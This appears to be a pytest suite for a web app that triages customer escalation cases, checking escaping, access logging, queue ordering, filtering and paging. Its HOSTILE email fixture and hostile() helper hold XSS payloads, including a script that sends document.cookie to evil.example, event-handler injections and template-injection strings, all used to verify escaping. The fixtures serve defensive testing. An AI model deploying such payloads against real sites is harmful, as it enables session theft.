"""The pages as they are served: what is on them, what is escaped, and that reading a text is recorded."""

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from agent.agreement import measure
from agent.schema import Dimension
from agent.schema.record import EntryKind, KeepText
from agent.store.forgetting import forget
from tests import builders
from tests.web import cases
from tests.web.conftest import serve
from tests.web.test_door import form_of

HOSTILE = """From: "<img src=x onerror=alert(1)>" <a@evil.example>
To: maya@vendor.example
Subject: </textarea><script>alert('subject')</script>
Date: Mon, 23 Nov 2026 16:42:00 +0100

<script>fetch('https://evil.example/?' + document.cookie)</script>
<img src="https://evil.example/pixel.png"><style>body{background:url(https://evil.example/a)}</style>
<a href="javascript:alert(1)" onmouseover="alert(2)">click</a> {{ 7*7 }} {% for x in y %} ${7*7}
"><svg onload=alert(3)> ' onfocus=alert(4) autofocus=' </textarea></script><!-- --> <iframe src=//evil.example>
We lose orders every morning \u202egnp.exe\u202c and\u2066 this\u2069 \u200bhides\x1b[31m. &lt;b&gt; &#60;script&#62;
"""
REASON = "<script>alert('reason')</script> \u202eevil"


class Tags(HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


def parsed(page):
    tags = Tags()
    tags.feed(page)
    return tags


def hostile(store):
    quote = "<script>fetch('https://evil.example/?' + document.cookie)</script>"
    fields = cases.CASES[0][1]
    impact = fields["customer_impact"].model_copy(update={"quotes": (quote,), "rationale": f"{quote} {{{{ 7*7 }}}}"})
    return cases.keep(
        store, text=HOSTILE, account="<b onclick=alert(5)>Acme</b>", situation=quote, customer_impact=impact
    )


def test_nothing_from_an_email_becomes_markup(lite, client):
    """Scripts, handlers, styles, frames and template signs arrive as words; bidi and control characters do not arrive."""
    key = hostile(lite.store)
    form = form_of(client.get(f"/case/{key}")) | {"say": "change", "customer_impact": "1", "reason": REASON}
    client.post(f"/case/{key}/verdict", data=form)
    for path in (
        f"/case/{key}",
        "/?view=all",
        "/overdue",
        "/agreement",
        "/?view=all&account=%3Cscript%3Ealert(9)%3C/script%3E",
    ):
        page = client.get(path)
        assert page.status_code == 200
        tags = parsed(page.text)
        assert {tag for tag in tags.tags if tag in {"script", "style", "iframe", "img"}} <= {"script"}
        assert tags.tags.count("script") == 1
        assert not [name for name, _ in tags.attributes if name.startswith("on") or name == "style"]
        addresses = [value for name, value in tags.attributes if name in {"href", "src", "action", "formaction"}]
        assert all(value.startswith(("/", "#")) and not value.startswith("//") for value in addresses)
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\x1b]", page.text)
    page = client.get(f"/case/{key}").text
    assert "{{ 7*7 }}" in page
    assert "&lt;iframe src=//evil.example&gt;" in page


def test_a_score_shows_its_words_and_those_that_are_not_there(lite, client):
    """A found quote is marked in the thread and linked; one that was not found is named as such."""
    page = client.get(f"/case/{cases.keep(lite.store)}").text
    assert re.search(
        r'<mark class="q customer_impact end">two people do nothing but compare lists by hand</mark>', page
    )
    assert 'href="#quote-customer_impact-2"' in page
    assert 'id="quote-customer_impact-2"' in page
    lost = page[page.index("They are one of our three largest customers.") :]
    assert "not found in the text" in lost[:120]


def test_every_reading_of_a_text_is_recorded(site):
    """Opening a case, trying scores on it and being sent back to it are entries with the reader's name."""
    key = cases.keep(site.store)
    with site.client() as client:
        client.get("/")
        assert len(site.store.history(key)) == 1
        fields = form_of(client.get(f"/case/{key}"))
        client.post(f"/case/{key}/try", data=fields)
        client.post(f"/case/{key}/verdict", data=fields | {"say": "change"})
    read = [(entry.by, entry.how) for entry in site.store.history(key) if entry.kind is EntryKind.ACCESS]
    assert read == [("Ada", "web")] * 3


def test_doubt_is_shown_where_it_is_known(lite, client):
    """The decisions by their share, a bar per total, and the levels' shares at the scores; uncalibrated ones by name."""
    known, unknown = (client.get(f"/case/{cases.keep(lite.store, number)}").text for number in (0, 1))
    assert "Model weights, not calibrated: Escalate with urgency" in known
    assert known.count('class="share"') == 3 * 5
    assert '<svg class="totals"' in known
    assert "not calibrated" not in unknown
    assert '<svg class="totals"' not in unknown


def test_without_scripts_scores_are_tried_by_a_button(lite, client):
    """The page comes back with the engine's answer on it, and nothing is kept."""
    key = cases.keep(lite.store)
    fields = form_of(client.get(f"/case/{key}")) | {d.value: "5" for d in Dimension} | {"reason": "half a thought"}
    page = client.post(f"/case/{key}/try", data=fields)
    assert 'data-total="20" data-band="escalate_immediately"' in page.text
    assert "half a thought" in page.text
    assert [e.kind for e in lite.store.history(key) if e.kind is not EntryKind.ACCESS] == [EntryKind.RUN]


def test_the_part_that_the_script_swaps_is_the_engines(lite, client):
    """Owner, deadlines and warnings for the moved scores, and that the drafts were worded for another decision."""
    key = cases.keep(lite.store)
    fields = form_of(client.get(f"/case/{key}")) | {d.value: "1" for d in Dimension}
    part = client.post(f"/case/{key}/decision", data=fields).text
    assert 'data-total="4" data-band="handle_yourself"' in part
    assert "Escalate if open after" in part
    assert "The drafts below were worded for" in part
    assert "<html" not in part
    assert "The drafts below" not in client.post(f"/case/{key}/decision", data=form_of(client.get(f"/case/{key}"))).text


@pytest.mark.parametrize("kept", [KeepText.REDACTED, KeepText.NONE])
def test_a_case_shows_what_is_kept_of_it(sqlite, kept):
    """Less text is no error: the figures stand, and the page says what is kept and where."""
    key = cases.keep(sqlite, keep_text=kept)
    with serve(sqlite, keep_text=kept) as running, running.client() as client:
        page = client.get(f"/case/{key}")
    assert page.status_code == 200
    assert "Katrin Holm" not in page.text
    assert ("No text was kept" in page.text) is (kept is KeepText.NONE)
    assert f'keep_text = "{kept}"' in page.text
    assert str(sqlite.place) in page.text


def test_a_forgotten_case_can_still_be_judged(lite, client):
    """Its words are gone, its scores and the form are there."""
    key = cases.keep(lite.store)
    forget(lite.store, key, by="Ada")
    page = client.get(f"/case/{key}")
    assert "was forgotten" in page.text
    assert "two people" not in page.text
    done = client.post(f"/case/{key}/verdict", data=form_of(page) | {"say": "agree"}, follow_redirects=True)
    assert "Your verdict is kept." in done.text


@pytest.mark.parametrize(
    ("path", "status"),
    [("/case/nothing", 404), ("/nowhere", 404), ("/?band=panic", 400), ("/?page=x", 400), ("/?why=because", 400)],
)
def test_what_is_not_there_is_said_in_words(client, path, status):
    """One page with one sentence, and no traceback."""
    page = client.get(path)
    assert page.status_code == status
    assert "This cannot be shown" in page.text


def test_the_queue_shows_the_most_pressing_first(site):
    """By the reasons to look, of equal ones the overdue first; a verdict or an outcome takes a case off it."""
    calm = cases.keep(site.store, 3)
    pressing = cases.keep(site.store, 0)
    with site.client() as client:
        listed = re.findall(r'data-case="(\w+)"', client.get("/").text)
        assert set(listed) == {calm, pressing}
        weights = [list(site.store.get(key).summary.looks) for key in listed]
        order = [list(type(weights[0][0])).index(looks[0]) for looks in weights]
        assert order == sorted(order)
        client.post(f"/case/{pressing}/verdict", data=form_of(client.get(f"/case/{pressing}")) | {"say": "agree"})
        assert re.findall(r'data-case="(\w+)"', client.get("/").text) == [calm]
        assert re.findall(r'data-case="(\w+)"', client.get("/?view=decided").text) == [pressing]


def test_overdue_ones_come_first_over_all_pages(site):
    """Fifty-three equally pressing ones: those whose deadline has passed are on the first page, however old they are."""
    now = datetime.now(UTC)
    young = [cases.keep(site.store, 3, now=now - timedelta(minutes=n)) for n in range(50)]
    overdue = [cases.keep(site.store, 3, now=now - timedelta(days=days)) for days in (40, 60, 50)]
    with site.client() as client:
        first, second = (re.findall(r'data-case="(\w+)"', client.get(f"/?page={n}").text) for n in (1, 2))
        listed = client.get("/?why=overdue").text
    assert first[:3] == [overdue[1], overdue[2], overdue[0]]
    assert set(second) < set(young)
    assert set(re.findall(r'data-case="(\w+)"', listed)) == set(overdue)


@pytest.mark.parametrize(
    ("query", "accounts"),
    [
        ("account=lind", {"Lindehof"}),
        ("text=payment+file", {"Brightline Pay"}),
        ("text=nordlicht", {"Nordlicht Logistik"}),
        ("text=lindehof+november", {"Lindehof"}),
        ("type=feature_gap", {"Bergmann Medical"}),
        ("band=handle_yourself", {"Lindehof", "Harbour Dental"}),
        ("why=unsupported", None),
        ("account=nobody", set()),
    ],
)
def test_the_queue_is_filtered(lite, client, query, accounts):
    """Each filter shows the cases that pass it, and keeps its value in the form."""
    for number in range(len(cases.CASES)):
        cases.keep(lite.store, number)
    page = client.get(f"/?{query}").text
    shown = set(re.findall(r"<bdi>([^<]+)</bdi></a>", page))
    if accounts is None:
        accounts = {s.account for s in lite.store.list() if "unsupported" in s.looks}
        assert accounts
    assert shown == accounts


def test_the_queue_has_pages(lite, client):
    """Fifty cases each, none twice and none lost."""
    keys = cases.many(lite.store, 53)
    first, second = (re.findall(r'data-case="(\w+)"', client.get(f"/?view=all&page={n}").text) for n in (1, 2))
    assert (len(first), len(second)) == (50, 3)
    assert set(first + second) == set(keys)


def test_overdue_lists_passed_deadlines_until_the_case_ends(lite, client):
    """Owner's answer, words to the customer, or the standing rule; an outcome takes them off."""
    key = cases.keep(lite.store, now=builders.NOW - timedelta(days=30))
    page = client.get("/overdue").text
    assert "Owner&#39;s answer" in page
    assert "overdue, " in page
    client.post(f"/case/{key}/outcome", data=form_of(client.get(f"/case/{key}")) | {"outcome": "resolved"})
    assert "nothing is overdue" in client.get("/overdue").text


def test_agreement_shows_the_figures_of_the_measure(lite, client):
    """The same counts as `triage agreement --json`; without a verdict the page says so."""
    assert "No verdict yet" in client.get("/agreement").text
    for key in cases.many(lite.store, 6):
        fields = form_of(client.get(f"/case/{key}"))
        moved = lite.store.get(key).summary.scores[Dimension.CSM_CAPABILITY] % 5 + 1
        client.post(f"/case/{key}/verdict", data=fields | {"say": "change", "csm_capability": moved, "reason": "so"})
    page = client.get("/agreement").text
    figures = measure(lite.store.tally())
    assert f"<dd>{figures.verdicts}</dd>" in page
    assert "Managers move <b>CSM capability</b> most." in page
    assert page.count('<svg class="plot"') >= 4 * 2 + len(figures.models)
    assert "No verdict yet" in client.get("/agreement?model=unknown").text


def test_the_policy_page_is_the_companys(client):
    """Every level, band and route of the policy in force."""
    page = client.get("/policy").text
    for rule in cases.POLICY.dimensions.values():
        assert all(words.replace("'", "&#39;") in page for words in rule.levels.values())
    assert all(rule.label in page for rule in cases.POLICY.issue_types.values())
